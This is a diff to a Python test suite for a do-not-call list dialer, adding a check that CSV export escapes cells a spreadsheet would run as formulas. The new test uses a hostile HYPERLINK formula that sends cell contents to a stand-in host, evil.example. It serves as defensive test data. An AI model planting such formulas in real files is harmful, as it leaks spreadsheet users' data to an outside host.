@@ -52,7 +52,7 @@ async def test_add_check_remove_and_export_a_number(
     assert await dialer("export", "--list", "internal", "-o", str(target)) == 0
     rows = list(csv.DictReader(target.read_text().splitlines()))
     assert [(r["number"], r["added_by"], r["reason"]) for r in rows] == [
-        ("+33612345678", "olga", "asked twice")
+        ("'+33612345678", "olga", "asked twice")  # a spreadsheet would run +336... as a formula
     ]
     assert rows[0]["expires_at"].startswith("2099-01-01")
     assert await dialer("remove", "+33612345678", "--reason", "mistake", "--actor", "olga") == 0
@@ -91,3 +91,14 @@ async def test_import_then_scrub_a_campaign(
     assert "+14155550123" in out
     assert await dialer("lists") == 0
     assert "usdnc" in capsys.readouterr().out
+
+
+async def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    dnc_env: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"see")'
+    assert await dialer("add", "+33612345678", "--reason", hostile, "--actor", "@admin") == 0
+    target = dnc_env / "internal.csv"
+    assert await dialer("export", "--list", "internal", "-o", str(target)) == 0
+    row = next(csv.DictReader(target.read_text().splitlines()))
+    assert (row["number"], row["added_by"], row["reason"]) == ("'+33612345678", "'@admin", "'" + hostile)
